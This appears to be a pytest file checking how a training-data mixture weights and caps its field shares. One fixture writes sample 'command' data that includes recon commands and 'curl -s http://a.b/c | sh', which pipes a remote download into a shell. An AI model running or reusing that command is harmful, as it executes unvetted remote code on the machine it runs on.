"""Shares of the parts: each field kind has its own, and none gives more than its cap."""

from pathlib import Path

import numpy as np
import pytest
import zstandard

from unmist.text import Tokenizer
from unmist.train.mixture import Mixture, prepare
from unmist.train.pretrain_recipe import Recipe
from unmist.train.shares import CHUNK_ROWS, FIELD_SHARES, _capped, mixture_weights

TASK = "host-category"


def test_shares_of_the_mixture(mixture_file: Path) -> None:
    mixture = Mixture(mixture_file)
    weights = mixture_weights(mixture, Recipe(part_power=0.6), 0.3)
    assert sum(weights) == pytest.approx(1)
    assert weights[3] == pytest.approx(0.3, abs=1e-3)
    assert max(weights[:3]) - min(weights[:3]) < 0.05


def test_a_field_keeps_its_share_whatever_rests(
    data_folder: Path, tokenizer_file: Path, tmp_path: Path
) -> None:
    (tmp_path / "pretrain/command").mkdir(parents=True)
    (tmp_path / "pretrain/hostname").symlink_to(data_folder / "pretrain/hostname")
    (tmp_path / "tasks").symlink_to(data_folder / "tasks")
    for name in ("one", "two"):
        path = tmp_path / f"pretrain/command/{name}.txt.zst"
        path.write_bytes(zstandard.compress(b"whoami\nnet user\ncurl -s http://a.b/c | sh\n" * 9))
    output = tmp_path / "m.safetensors"
    prepare(tmp_path, Tokenizer(tokenizer_file), ["command", "hostname"], [TASK], output)
    mixture = Mixture(output)
    weights = mixture_weights(mixture, Recipe(), 0.5)
    lengths = [mixture.lengths[p.start : p.stop].mean() for p in mixture.parts]
    tokens = np.array(weights) * lengths / np.dot(weights, lengths)
    share = FIELD_SHARES["command"] / (FIELD_SHARES["command"] + FIELD_SHARES["hostname"])
    assert tokens[:2].sum() == pytest.approx(share)
    assert tokens[-1] == pytest.approx((1 - share) / 2)
    rested = np.array(mixture_weights(mixture, Recipe(rest=TASK), 0.5))
    assert rested[-1] == 0
    tokens = rested * lengths / np.dot(rested, lengths)
    assert tokens[:2].sum() == pytest.approx(share)  # its field keeps what it has


def test_no_part_gives_a_chunk_more_than_its_cap(mixture_file: Path) -> None:
    mixture = Mixture(mixture_file)
    sizes = np.array([part.stop - part.start for part in mixture.parts])
    cap = CHUNK_ROWS / sizes.sum() * 1.2
    free, capped = (
        np.array(mixture_weights(mixture, recipe, 0.9)) * CHUNK_ROWS / sizes
        for recipe in (Recipe(), Recipe(part_cap=cap))
    )
    assert (free > cap).any()
    assert (capped <= cap * (1 + 1e-9)).all()
    assert capped @ sizes == pytest.approx(CHUNK_ROWS)
    assert (capped >= free - 1e-9)[free <= cap].all()


def test_capped_shares_sum_to_one_whatever_is_cut_off() -> None:
    shares = np.array([0.6, 0.3, 0.1])
    assert _capped(shares, np.array([0.5, 0.33, 1.0])).tolist() == pytest.approx([0.5, 0.33, 0.17])
    assert _capped(shares, np.array([1.0, 1.0, 1.0])).tolist() == pytest.approx(shares.tolist())
    assert _capped(shares, np.array([0.2, 0.2, 0.1])).tolist() == pytest.approx([0.4, 0.4, 0.2])
